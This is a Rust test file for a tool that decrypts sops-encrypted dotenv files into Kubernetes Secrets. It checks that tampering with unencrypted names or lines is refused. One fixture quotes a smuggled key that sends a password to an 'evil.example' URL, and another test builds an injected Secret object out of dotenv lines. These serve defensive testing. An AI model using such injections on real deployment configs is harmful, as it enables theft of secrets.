//! What an outsider can do to a repository without any key, file by file:
//! the inputs of `testdata/trust`.

mod common;
mod world;

use std::path::PathBuf;

use common::{Run, program, testdata};
use world::{Key, World};

fn folder(name: &str) -> PathBuf {
    testdata().join("trust").join(name)
}

/// The last lines of a run that must fail and print nothing.
fn refused(run: Run) -> String {
    assert_eq!((run.code, run.text()), (1, ""), "{}", run.stderr);
    assert!(!run.stderr.contains("hunter2"), "{}", run.stderr);
    run.stderr
}

#[test]
fn a_line_in_clear_does_not_become_another_variable() {
    let dir = folder("env-key-text");
    let run = program(&dir).arg("gen.yaml").run();
    insta::assert_snapshot!(refused(run), @r#"
    error: gen.yaml: line 3: secretFrom[0].envs[0]: "evil.enc.env": line 3: the key "DATABASE_URL: http://evil.example/${PASSWORD} #" of the file sets no variable of that name
      the text is read by other rules than the encrypted file, in which names, empty values and comments can be changed without a key: what does not say the same to both may be anybody's
      lines are those of the decrypted file
    name each variable with letters, digits, `_` and `.`, and write it on one line: NAME=value; where the file is meant to be read as it is, list it under `files:`
    "#);
    let good = std::fs::read_to_string(dir.join("gen.yaml")).unwrap();
    let temp = tempfile::tempdir().unwrap();
    std::fs::copy(dir.join("good.enc.env"), temp.path().join("good.enc.env")).unwrap();
    std::fs::write(temp.path().join("gen.yaml"), good.replace("evil", "good")).unwrap();
    let run = program(temp.path()).arg("gen.yaml").run();
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(run.text().contains("hunter2"));
}

/// sops made the file; KSOPS turns the character into a space.
#[test]
fn a_character_that_a_variable_cannot_carry() {
    let dir = folder("env-nel-advice");
    let run = program(&dir)
        .var("SOPS_AGE_KEY_FILE", dir.join("key.txt"))
        .arg("gen.yaml")
        .run();
    insta::assert_snapshot!(refused(run), @r#"
    error: gen.yaml: secretFrom[0]: stringData["A"] holds the character U+0085, which YAML cannot carry unchanged
    take the character out of the variable with `sops edit`; a value that needs it goes into a file of its own, listed under `binaryFiles:`
    "#);
}

/// Names of variables are in clear: an object can be made of them.
#[test]
fn lines_do_not_become_an_object() {
    let key = Key::new();
    let world = World::with_plugin(&key);
    let object = "kind: Secret #=\nmetadata: {name: x} #=\nstringData: {a: #=\nb=hunter2\n } #=\n";
    world.encrypt("app/a.enc.env", &[&key], ".", object);
    world.encrypt("app/c.enc.env", &[&key], ".", "A=b: c\n");
    let run = |file: &str| {
        world.write("app/gen.yaml", format!("files: [{file}]\n"));
        program(&world.path("app"))
            .var("SOPS_AGE_KEY_FILE", world.path("age.agekey"))
            .arg("gen.yaml")
            .run()
    };
    insta::assert_snapshot!(refused(run("a.enc.env")), @r#"
    error: gen.yaml: line 1: files[0]: "a.enc.env" is a dotenv or INI file, and kustomize would take its lines for a Kubernetes object
      names in such a file can be changed without a key
    list under `files:` what is YAML or JSON; make a Secret of any other file with `secretFrom:`
    "#);
    // What kustomize refuses itself is printed, as KSOPS prints it.
    assert_eq!(run("c.enc.env").text(), "A=b: c\n");
}
